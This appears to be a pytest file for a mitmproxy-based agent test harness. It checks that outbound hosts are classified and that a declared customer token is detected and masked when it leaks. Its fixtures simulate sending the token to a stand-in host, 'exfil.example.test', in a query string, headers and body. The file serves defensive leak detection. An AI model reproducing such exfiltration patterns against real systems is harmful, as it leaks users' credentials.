"""The witness in the proxy: egress in every mode, secret leaks by where they went, masked everywhere.

Driven through the root addon with mitmproxy's test flows. The secret is a
spec's ``assert_no_secret_leak: ${CUSTOMER_TOKEN}``; after a record and a
replay it is in no cassette and no event-log line, the leak events name where
it went, and a model call that carried it still replays (the mask is applied
before hashing on both sides).
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
from mitmproxy import http
from mitmproxy.test import tflow, tutils

from flowproof.cassette import load_cassette

from .conftest import Harness, chat_body, json_response, model_flow

TOKEN = "cust-tok-9f2e41a7c3"
SPEC = """\
name: no secret leaves
agent:
  command: python agent.py
mcp:
  - name: exports
    url: http://127.0.0.1:9000/mcp
    tools:
      - name: export
steps:
  - prompt: hello
  - assert_no_egress
  - assert_no_secret_leak: ${CUSTOMER_TOKEN}
"""


@pytest.fixture
def spec(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("CUSTOMER_TOKEN", TOKEN)
    path = tmp_path / "leak.flow.yaml"
    path.write_text(SPEC)
    return path


def plain_flow(url_host: str, path: str, body: bytes, headers: list[tuple[bytes, bytes]] | None = None,
               port: int = 80) -> http.HTTPFlow:
    hdrs = headers or [(b"host", url_host.encode()), (b"content-type", b"application/json")]
    req = tutils.treq(host=url_host, port=port, scheme=b"http", method=b"POST", path=path.encode(),
                      headers=http.Headers(hdrs), content=body)
    return tflow.tflow(req=req)


def connect_flow(host: str, port: int = 443) -> http.HTTPFlow:
    req = tutils.treq(host=host, port=port, method=b"CONNECT", path=b"", scheme=b"", headers=http.Headers([]),
                      content=b"")
    return tflow.tflow(req=req)


def run_flow(h: Harness, flow: http.HTTPFlow, response: dict[str, Any] | None = None) -> None:
    h.addon.requestheaders(flow)
    h.addon.request(flow)
    if response is not None and flow.response is None:
        json_response(flow, response)
        h.addon.responseheaders(flow)
        h.addon.response(flow)


ANSWER = {"id": "c", "object": "chat.completion", "model": "gpt-4o",
          "choices": [{"index": 0, "message": {"role": "assistant", "content": f"Your token is {TOKEN}"},
                       "finish_reason": "stop"}]}


def leaking_model_call() -> http.HTTPFlow:
    return model_flow(chat_body(f"remember {TOKEN}", stream=False))


class TestEgress:
    @pytest.mark.parametrize("mode", ["record", "replay"])
    def test_every_host_once_classified_in_every_mode(self, harness: Harness, spec: Path, mode: str) -> None:
        cassette = harness.tmp / "c.json"
        if mode == "replay":
            cassette.write_text(json.dumps({"format": 1, "route": "proxy", "turns": []}))
        harness.configure(flowproof_mode=mode, flowproof_cassette=str(cassette), flowproof_spec=str(spec),
                          flowproof_mcp=["exports=http://127.0.0.1:9000/mcp"])
        harness.addon.http_connect(connect_flow("api.openai.com"))
        harness.addon.http_connect(connect_flow("exfil.example.test"))
        harness.addon.requestheaders(model_flow(b"{}", path="/v1/models"))  # inside the first tunnel
        harness.addon.requestheaders(plain_flow("collector.example.test", "/c", b"x"))
        harness.addon.requestheaders(plain_flow("127.0.0.1", "/mcp", b"{}", port=9000))
        got = [(e["host"], e["port"], e["role"], e["via"]) for e in harness.events("egress")]
        assert got == [
            ("api.openai.com", 443, "model", "connect"),
            ("exfil.example.test", 443, "other", "connect"),
            ("collector.example.test", 80, "other", "http"),
            ("127.0.0.1", 9000, "mcp", "http"),
        ]

    def test_a_mapped_host_is_still_the_host_the_agent_meant(self, harness: Harness, spec: Path) -> None:
        harness.configure(flowproof_mode="record", flowproof_cassette=str(harness.tmp / "c.json"),
                          flowproof_spec=str(spec), flowproof_upstream=["exfil.example.test=http://127.0.0.1:1"])
        flow = plain_flow("exfil.example.test", "/c", b"x")
        run_flow(harness, flow)
        assert flow.request.host == "127.0.0.1"  # mapped ...
        assert [e["host"] for e in harness.events("egress")] == ["exfil.example.test"]  # ... but reported as meant


class TestSecrets:
    def configure(self, h: Harness, spec: Path, mode: str = "record") -> Path:
        path = h.tmp / "leak.cassette.json"
        h.configure(flowproof_mode=mode, flowproof_cassette=str(path), flowproof_spec=str(spec))
        return path

    def test_a_secret_to_a_non_model_host_is_reported_by_where_it_went(self, harness: Harness, spec: Path) -> None:
        self.configure(harness, spec)
        body = json.dumps({"data": {"token": TOKEN}}).encode()
        run_flow(harness, plain_flow("exfil.example.test", f"/c?t={TOKEN}", body,
                                     [(b"host", b"exfil.example.test"), (b"x-trace", TOKEN.encode()),
                                      (b"authorization", f"Bearer {TOKEN}".encode())]))
        leaks = harness.events("secret_leak")
        assert [(e["where"], e["path"]) for e in leaks] == [("url", "query"), ("header", "x-trace"),
                                                              ("body", "data.token")]
        assert leaks[0]["url"] == "http://exfil.example.test/c?t=«secret:CUSTOMER_TOKEN»"
        assert all(e["label"] == "${CUSTOMER_TOKEN}" and e["model_call"] is False for e in leaks)
        assert TOKEN not in harness.report.read_text()

    def test_a_secret_in_a_model_call_is_masked_in_the_cassette_and_still_replays(
        self, harness: Harness, spec: Path, tmp_path: Path
    ) -> None:
        path = self.configure(harness, spec)
        run_flow(harness, leaking_model_call(), ANSWER)
        harness.addon.done()
        (leak,) = harness.events("secret_leak")
        assert leak["model_call"] is True and leak["path"] == "messages.1.content"
        text = path.read_text()
        assert TOKEN not in text and "«secret:CUSTOMER_TOKEN»" in text
        assert TOKEN not in harness.report.read_text()
        assert load_cassette(path).turns[0].request.body["messages"][1]["content"] == "remember «secret:CUSTOMER_TOKEN»"

        harness.report.unlink()
        self.configure(harness, spec, mode="replay")
        replayed = leaking_model_call()
        run_flow(harness, replayed)
        assert replayed.response is not None and replayed.response.status_code == 200
        assert harness.events("divergence") == []
        # The agent gets the answer it got at record: the placeholder goes back as this run's value.
        content = json.loads(replayed.response.content or b"")
        assert content["choices"][0]["message"]["content"] == f"Your token is {TOKEN}"
        assert [e["where"] for e in harness.events("secret_leak")] == ["body"]
        assert TOKEN not in harness.report.read_text()

    def test_no_secrets_declared_means_no_scan(self, harness: Harness, tmp_path: Path) -> None:
        harness.configure(flowproof_mode="record", flowproof_cassette=str(tmp_path / "c.json"))
        run_flow(harness, plain_flow("exfil.example.test", "/c", TOKEN.encode()))
        assert harness.events("secret_leak") == []
